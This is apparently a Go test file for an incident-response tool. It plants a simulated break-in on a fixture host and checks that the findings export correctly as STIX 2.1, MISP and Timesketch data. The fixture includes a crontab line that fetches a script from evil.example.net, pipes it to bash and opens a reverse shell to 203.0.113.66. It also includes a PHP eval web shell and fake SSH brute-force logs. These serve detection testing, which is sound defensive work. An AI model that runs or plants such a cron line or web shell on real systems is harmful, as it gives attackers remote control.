package ioc

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/nowwhat/nowwhat/internal/base/casedir"
	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/stage/check"
	"github.com/nowwhat/nowwhat/internal/stage/investigate"
	"github.com/nowwhat/nowwhat/internal/stage/report"
)

func syslog(t time.Time, msg string) string {
	return t.UTC().Format("Jan _2 15:04:05") + " web1 " + msg + "\n"
}

// caseReport runs check and investigate (the libraries) on a root with a planted attack, keeps
// their results in a case as the commands do, and builds the report.
func caseReport(t *testing.T) *report.Report {
	t.Helper()
	r := fixture.Debian(t)
	r.File("/etc/timezone", "Etc/UTC\n", 0o644)
	t0 := time.Now().UTC().Add(-30 * time.Minute).Truncate(time.Second)
	var log strings.Builder
	for i := 0; i < 40; i++ {
		log.WriteString(syslog(t0.Add(time.Duration(i)*time.Second), fmt.Sprintf("sshd[%d]: Failed password for %s from 203.0.113.66 port %d ssh2", 100+i, []string{"admin", "deploy"}[i%2], 40000+i)))
	}
	log.WriteString(syslog(t0.Add(41*time.Second), "sshd[200]: Accepted password for deploy from 203.0.113.66 port 41000 ssh2"))
	r.File("/var/log/auth.log", log.String(), 0o640)
	r.User("deploy", 1001, "/home/deploy", "/bin/bash", "$y$j9T$salt$hash")
	r.File("/var/spool/cron/crontabs/deploy", "* * * * * curl -s http://evil.example.net/x.sh | bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\n", 0o600)
	r.File("/var/www/html/uploads/it's \\ odd.php", "<?php @eval(base64_decode($_POST['x'])); ?>\n", 0o644)

	c, err := casedir.Open(filepath.Join(t.TempDir(), "case"))
	if err != nil {
		t.Fatal(err)
	}
	chk, err := check.Run(context.Background(), check.Options{Root: r.Dir})
	if err != nil {
		t.Fatal(err)
	}
	out, _ := c.SaveResult("check", chk)
	c.Append(casedir.Entry{Command: "check", Args: []string{"check"}, Outcome: string(chk.Verdict), Facts: map[string]string{"verdict": string(chk.Verdict)}, Outputs: []casedir.Output{out}})
	inv, err := investigate.Run(context.Background(), investigate.Options{Check: check.Options{Root: r.Dir}})
	if err != nil {
		t.Fatal(err)
	}
	out, _ = c.SaveResult("investigate", inv)
	c.Append(casedir.Entry{Command: "investigate", Args: []string{"investigate"}, Outcome: "ok", Outputs: []casedir.Output{out}})
	rep, err := report.Build(c, report.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict.Last != "compromised" || len(rep.Indicators) == 0 || len(rep.Techniques) == 0 {
		t.Fatalf("the planted attack was not found: verdict %s, %d indicators, %d techniques", rep.Verdict.Last, len(rep.Indicators), len(rep.Techniques))
	}
	return rep
}

// tricky adds indicators whose values test the pattern quoting and every kind.
func tricky(r *report.Report) {
	r.Indicators = append(r.Indicators,
		report.Indicator{Type: "ipv6", Value: "2001:db8::66", Context: "reverse shell destination", Refs: []report.Ref{{Finding: "F1"}}},
		report.Indicator{Type: "md5", Value: "d41d8cd98f00b204e9800998ecf8427e", Context: "md5", Refs: []report.Ref{{Finding: "F1"}}},
		report.Indicator{Type: "url", Value: "http://evil.example.net/a'b\\c", Context: "quote and backslash", Refs: []report.Ref{{Finding: "F1"}}},
		report.Indicator{Type: "path", Value: "/tmp/.x/it's \\ here", Context: "odd name", Refs: []report.Ref{{Finding: "F1"}}},
		report.Indicator{Type: "path", Value: "noslash", Context: "bare name", Refs: []report.Ref{{Finding: "F1"}}},
	)
}

const schemaBase = "http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas/"

func stixSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	c := jsonschema.NewCompiler()
	root := filepath.Join("testdata", "stix2-schemas", "schemas")
	n := 0
	err := filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil || fi.IsDir() || !strings.HasSuffix(p, ".json") {
			return err
		}
		f, err := os.Open(p)
		if err != nil {
			return err
		}
		defer f.Close()
		doc, err := jsonschema.UnmarshalJSON(f)
		if err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
		rel, _ := filepath.Rel(root, p)
		n++
		return c.AddResource(schemaBase+filepath.ToSlash(rel), doc)
	})
	if err != nil || n < 50 {
		t.Fatalf("schemas: %v (%d files)", err, n)
	}
	sch, err := c.Compile(schemaBase + "common/bundle.json")
	if err != nil {
		t.Fatal(err)
	}
	return sch
}

// TestSTIXValid: the bundle validates against the official STIX 2.1 schemas, every id is a
// valid, unique STIX id, every reference points at an object of the bundle, every pattern
// parses, and the object kinds the issue asks for are there.
func TestSTIXValid(t *testing.T) {
	rep := caseReport(t)
	tricky(rep)
	var buf bytes.Buffer
	if err := WriteSTIX(&buf, rep); err != nil {
		t.Fatal(err)
	}
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	sch := stixSchema(t)
	if err := sch.Validate(doc); err != nil {
		t.Fatalf("the bundle is not STIX 2.1 by the schemas: %v", err)
	}
	// Each object against its own schema too (the bundle's anyOf accepts custom objects).
	var bundle struct {
		Type    string           `json:"type"`
		ID      string           `json:"id"`
		Objects []map[string]any `json:"objects"`
	}
	json.Unmarshal(buf.Bytes(), &bundle)
	c := jsonschema.NewCompiler()
	root := filepath.Join("testdata", "stix2-schemas", "schemas")
	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err == nil && !fi.IsDir() && strings.HasSuffix(p, ".json") {
			f, _ := os.Open(p)
			d, _ := jsonschema.UnmarshalJSON(f)
			f.Close()
			rel, _ := filepath.Rel(root, p)
			c.AddResource(schemaBase+filepath.ToSlash(rel), d)
		}
		return nil
	})
	dirs := map[string]string{"identity": "sdos", "indicator": "sdos", "observed-data": "sdos", "attack-pattern": "sdos", "course-of-action": "sdos",
		"malware": "sdos", "tool": "sdos", "relationship": "sros", "ipv4-addr": "observables", "ipv6-addr": "observables", "domain-name": "observables",
		"url": "observables", "file": "observables", "directory": "observables"}
	idRe := regexp.MustCompile(`^([a-z][a-z0-9-]+)--[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)
	ids := map[string]string{}
	kinds := map[string]int{}
	for _, o := range bundle.Objects {
		typ, _ := o["type"].(string)
		id, _ := o["id"].(string)
		kinds[typ]++
		m := idRe.FindStringSubmatch(id)
		if m == nil || m[1] != typ {
			t.Errorf("bad id %q for %s", id, typ)
		}
		if _, dup := ids[id]; dup {
			t.Errorf("duplicate id %s", id)
		}
		ids[id] = typ
		dir, ok := dirs[typ]
		if !ok {
			t.Errorf("object type %s has no schema here", typ)
			continue
		}
		s, err := c.Compile(schemaBase + dir + "/" + typ + ".json")
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := json.Marshal(o)
		v, _ := jsonschema.UnmarshalJSON(bytes.NewReader(raw))
		if err := s.Validate(v); err != nil {
			t.Errorf("%s %s: %v", typ, id, err)
		}
	}
	if !idRe.MatchString(bundle.ID) || bundle.Type != "bundle" {
		t.Errorf("bundle id %q", bundle.ID)
	}
	for _, k := range []string{"identity", "indicator", "observed-data", "attack-pattern", "course-of-action", "relationship", "malware"} {
		if kinds[k] == 0 {
			t.Errorf("no %s in the bundle: %v", k, kinds)
		}
	}
	// References.
	var refsOK func(v any, path string)
	refsOK = func(v any, path string) {
		switch x := v.(type) {
		case map[string]any:
			for k, e := range x {
				if strings.HasSuffix(k, "_ref") {
					if s, _ := e.(string); ids[s] == "" {
						t.Errorf("%s.%s = %v points at nothing in the bundle", path, k, e)
					}
				}
				if strings.HasSuffix(k, "_refs") {
					for _, r := range e.([]any) {
						if s, _ := r.(string); ids[s] == "" {
							t.Errorf("%s.%s has %v, which is nothing in the bundle", path, k, r)
						}
					}
				}
				refsOK(e, path+"."+k)
			}
		case []any:
			for _, e := range x {
				refsOK(e, path)
			}
		}
	}
	for _, o := range bundle.Objects {
		refsOK(o, o["id"].(string))
		if o["type"] == "relationship" && (ids[o["source_ref"].(string)] == "" || ids[o["target_ref"].(string)] == "") {
			t.Errorf("relationship %v dangles", o["id"])
		}
		if o["type"] == "indicator" {
			p := o["pattern"].(string)
			if err := parsePattern(p); err != nil {
				t.Errorf("pattern %s: %v", p, err)
			}
		}
		if o["type"] == "attack-pattern" {
			refs, _ := o["external_references"].([]any)
			if len(refs) == 0 || !regexp.MustCompile(`^T\d{4}(\.\d{3})?$`).MatchString(refs[0].(map[string]any)["external_id"].(string)) {
				t.Errorf("attack-pattern without its ATT&CK id: %v", o)
			}
		}
	}
	// Exporting twice gives the same ids (an importer updates instead of duplicating).
	var again bytes.Buffer
	WriteSTIX(&again, rep)
	if again.String() != buf.String() {
		t.Error("two exports of the same case differ")
	}
}

// TestPatterns: the pattern of each kind, with quotes and backslashes escaped, parses.
func TestPatterns(t *testing.T) {
	for _, tc := range []struct {
		in   report.Indicator
		want string
	}{
		{report.Indicator{Type: "ipv4", Value: "203.0.113.66"}, "[ipv4-addr:value = '203.0.113.66']"},
		{report.Indicator{Type: "sha256", Value: "ab"}, "[file:hashes.'SHA-256' = 'ab']"},
		{report.Indicator{Type: "path", Value: "/tmp/it's\\x"}, `[file:name = 'it\'s\\x' AND file:parent_directory_ref.path = '/tmp']`},
		{report.Indicator{Type: "url", Value: "http://x/'"}, `[url:value = 'http://x/\'']`},
	} {
		got, ok := Pattern(tc.in)
		if !ok || got != tc.want {
			t.Errorf("%+v: %s, want %s", tc.in, got, tc.want)
		}
		if err := parsePattern(got); err != nil {
			t.Errorf("%s: %v", got, err)
		}
	}
	if _, ok := Pattern(report.Indicator{Type: "ssh-key", Value: "SHA256:x"}); ok {
		t.Error("an SSH key fingerprint has no STIX observable")
	}
	// The checker itself rejects what is not a pattern.
	for _, bad := range []string{"[ipv4-addr:value = 1.2.3.4]", "[ipv4-addr:value = 'a'b']", "ipv4-addr:value = 'a'", "[file:name = 'a' AND]", "[:value = 'x']"} {
		if parsePattern(bad) == nil {
			t.Errorf("checker accepts %q", bad)
		}
	}
}

// parsePattern checks a STIX 2.1 pattern made of comparison expressions (the part of the
// grammar, STIXPattern.g4, that indicators here use): observations in brackets joined by AND,
// OR or FOLLOWEDBY, each comparisons of an object path with a quoted string, joined by AND or OR.
func parsePattern(p string) error {
	s := &scanner{in: p}
	for {
		if err := s.observation(); err != nil {
			return err
		}
		s.space()
		if s.done() {
			return nil
		}
		if !s.word("AND") && !s.word("OR") && !s.word("FOLLOWEDBY") {
			return fmt.Errorf("at %d: expected AND, OR or FOLLOWEDBY", s.i)
		}
	}
}

type scanner struct {
	in string
	i  int
}

func (s *scanner) done() bool { return s.i >= len(s.in) }
func (s *scanner) space() {
	for s.i < len(s.in) && s.in[s.i] == ' ' {
		s.i++
	}
}
func (s *scanner) lit(x string) bool {
	s.space()
	if strings.HasPrefix(s.in[s.i:], x) {
		s.i += len(x)
		return true
	}
	return false
}
func (s *scanner) word(w string) bool {
	s.space()
	if strings.HasPrefix(s.in[s.i:], w+" ") {
		s.i += len(w)
		return true
	}
	return false
}

var (
	objType  = regexp.MustCompile(`^[a-z][a-z0-9-]*[a-z0-9]`)
	propName = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*`)
	quoted   = regexp.MustCompile(`^'(?:[^'\\]|\\['\\])*'`)
)

func (s *scanner) observation() error {
	if !s.lit("[") {
		return fmt.Errorf("at %d: expected [", s.i)
	}
	for {
		s.space()
		m := objType.FindString(s.in[s.i:])
		if m == "" {
			return fmt.Errorf("at %d: expected an object type", s.i)
		}
		s.i += len(m)
		if !s.lit(":") {
			return fmt.Errorf("at %d: expected :", s.i)
		}
		for first := true; ; first = false {
			if !first && !s.lit(".") {
				break
			}
			if q := quoted.FindString(s.in[s.i:]); q != "" && !first {
				s.i += len(q)
				continue
			}
			n := propName.FindString(s.in[s.i:])
			if n == "" {
				return fmt.Errorf("at %d: expected a property", s.i)
			}
			s.i += len(n)
		}
		if !s.lit("=") && !s.lit("!=") {
			return fmt.Errorf("at %d: expected a comparison", s.i)
		}
		s.space()
		q := quoted.FindString(s.in[s.i:])
		if q == "" {
			return fmt.Errorf("at %d: expected a quoted string", s.i)
		}
		s.i += len(q)
		if s.lit("]") {
			return nil
		}
		if !s.word("AND") && !s.word("OR") {
			return fmt.Errorf("at %d: expected AND, OR or ]", s.i)
		}
	}
}

// TestMISPTypes: the event has what MISP's import needs, and every attribute's type and
// category pair is one MISP's own type list allows.
func TestMISPTypes(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("testdata", "misp", "describeTypes.json"))
	if err != nil {
		t.Fatal(err)
	}
	var dt struct {
		Result struct {
			Types    []string            `json:"types"`
			Mappings map[string][]string `json:"category_type_mappings"`
		} `json:"result"`
	}
	if err := json.Unmarshal(data, &dt); err != nil || len(dt.Result.Types) < 100 {
		t.Fatalf("describeTypes.json: %v", err)
	}
	rep := caseReport(t)
	tricky(rep)
	rep.Indicators = append(rep.Indicators, report.Indicator{Type: "ssh-key", Value: "SHA256:x", Refs: []report.Ref{{Finding: "F1"}}},
		report.Indicator{Type: "domain", Value: "evil.example.net", Refs: []report.Ref{{Finding: "F1"}}})
	var buf bytes.Buffer
	if err := WriteMISP(&buf, rep); err != nil {
		t.Fatal(err)
	}
	var ev map[string]map[string]any
	if err := json.Unmarshal(buf.Bytes(), &ev); err != nil {
		t.Fatal(err)
	}
	e := ev["Event"]
	for _, k := range []string{"info", "threat_level_id", "analysis", "distribution", "date", "uuid", "Attribute"} {
		if e[k] == nil || e[k] == "" {
			t.Errorf("event lacks %s", k)
		}
	}
	if e["threat_level_id"] != "1" || e["distribution"] != "0" {
		t.Errorf("threat level %v distribution %v", e["threat_level_id"], e["distribution"])
	}
	if !regexp.MustCompile(`^\d{4}-\d{2}-\d{2}$`).MatchString(e["date"].(string)) {
		t.Errorf("date %v", e["date"])
	}
	seen := map[string]bool{}
	for _, a := range e["Attribute"].([]any) {
		at := a.(map[string]any)
		typ, cat := at["type"].(string), at["category"].(string)
		seen[typ] = true
		if !contains(dt.Result.Types, typ) {
			t.Errorf("attribute type %q is not in MISP's list", typ)
		}
		if !contains(dt.Result.Mappings[cat], typ) {
			t.Errorf("category %q does not allow type %q", cat, typ)
		}
		if at["value"] == "" || at["uuid"] == "" {
			t.Errorf("attribute %v", at)
		}
	}
	for _, want := range []string{"ip-src", "ip-dst", "domain", "url", "sha256", "md5", "filename", "ssh-fingerprint"} {
		if !seen[want] {
			t.Errorf("no %s attribute: %v", want, seen)
		}
	}
	tags, _ := e["Tag"].([]any)
	if len(tags) == 0 || !strings.HasPrefix(tags[0].(map[string]any)["name"].(string), "misp-galaxy:mitre-attack-pattern=") {
		t.Errorf("ATT&CK tags %v", tags)
	}
}

func contains(xs []string, x string) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}

// TestTimesketch: every line is a JSON object with the fields Timesketch requires.
func TestTimesketch(t *testing.T) {
	rep := caseReport(t)
	var buf bytes.Buffer
	if err := WriteTimesketch(&buf, rep); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	n, hostile := 0, 0
	for sc.Scan() {
		n++
		var ev map[string]any
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("line %d: %v", n, err)
		}
		for _, k := range []string{"message", "datetime", "timestamp_desc", "timestamp", "source", "case"} {
			if ev[k] == nil || ev[k] == "" {
				t.Errorf("line %d lacks %s: %v", n, k, ev)
			}
		}
		if _, err := time.Parse(time.RFC3339Nano, ev["datetime"].(string)); err != nil {
			t.Errorf("line %d: datetime %v", n, ev["datetime"])
		}
		if ev["phase"] == report.PhaseHostile {
			hostile++
		}
	}
	if n != len(rep.Timeline) || hostile == 0 {
		t.Errorf("%d lines for %d rows, %d hostile", n, len(rep.Timeline), hostile)
	}
}
